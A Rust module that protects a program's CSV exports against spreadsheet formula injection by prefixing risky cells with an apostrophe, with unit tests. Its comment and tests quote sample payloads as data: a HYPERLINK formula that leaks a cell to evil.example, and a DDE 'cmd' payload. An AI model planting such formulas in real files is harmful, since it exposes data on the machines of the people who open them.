//! Spreadsheet formula injection in the CSV files Patron writes (OWASP "CSV injection").
//!
//! A CSV cell such as `=HYPERLINK("http://evil.example/?"&A1,"click")` typed into a customer's
//! name by anyone who can edit a record becomes a live formula when a manager opens the export in
//! Excel or LibreOffice. Cells that a spreadsheet would read as a formula — starting with `=`,
//! `+`, `-`, `@`, a tab or a carriage return — are written with a leading apostrophe, which
//! spreadsheets show as plain text. Plain numbers (`-12.50`) are left alone so amounts stay
//! numbers; a phone number such as `+86 138 0013 8000` *is* quoted (a spreadsheet would
//! otherwise mangle it too).
//!
//! The import undoes it: a CSV cell of an apostrophe followed by one of those characters loses
//! the apostrophe, so an exported file re-imports unchanged. XLSX needs neither: cells are
//! written and read as typed strings, never as formulas.

use std::borrow::Cow;

/// The characters a spreadsheet treats as the start of a formula.
fn starts_formula(s: &str) -> bool {
    matches!(
        s.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// A signed decimal number (`-12`, `+3.50`): a spreadsheet reads it as the number it is.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, ""));
    !int.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as written to a CSV file.
pub fn escape(cell: &str) -> Cow<'_, str> {
    if starts_formula(cell) && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as read from a CSV file: [`escape`] undone.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => cell,
    }
}

/// Writes one record with every cell [`escape`]d.
pub fn write_record<W: std::io::Write, S: AsRef<str>>(
    w: &mut csv::Writer<W>,
    cells: &[S],
) -> csv::Result<()> {
    w.write_record(cells.iter().map(|c| escape(c.as_ref())).map(|c| match c {
        Cow::Borrowed(b) => Cow::Borrowed(b.as_bytes()),
        Cow::Owned(o) => Cow::Owned(o.into_bytes()),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_numbers_are_not() {
        for (cell, written) in [
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("+86 138 0013 8000", "'+86 138 0013 8000"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\tx", "'\tx"),
            ("-12.50", "-12.50"),
            ("+3", "+3"),
            ("12", "12"),
            ("张三", "张三"),
            ("", ""),
            ("'quoted", "'quoted"),
        ] {
            assert_eq!(escape(cell), written, "{cell:?}");
            assert_eq!(unescape(&escape(cell)), cell, "round trip of {cell:?}");
        }
    }

    #[test]
    fn an_apostrophe_before_ordinary_text_stays() {
        assert_eq!(unescape("'quoted'"), "'quoted'");
        assert_eq!(unescape("'"), "'");
        assert_eq!(unescape("'=x"), "=x");
    }

    #[test]
    fn plain_numbers() {
        for n in ["0", "-1", "+1", "1.5", "-0.25", "10."] {
            assert!(is_plain_number(n), "{n}");
        }
        for n in ["-", "+", ".5", "-1e5", "1-2", "- 1", "-1,5"] {
            assert!(!is_plain_number(n), "{n}");
        }
    }
}
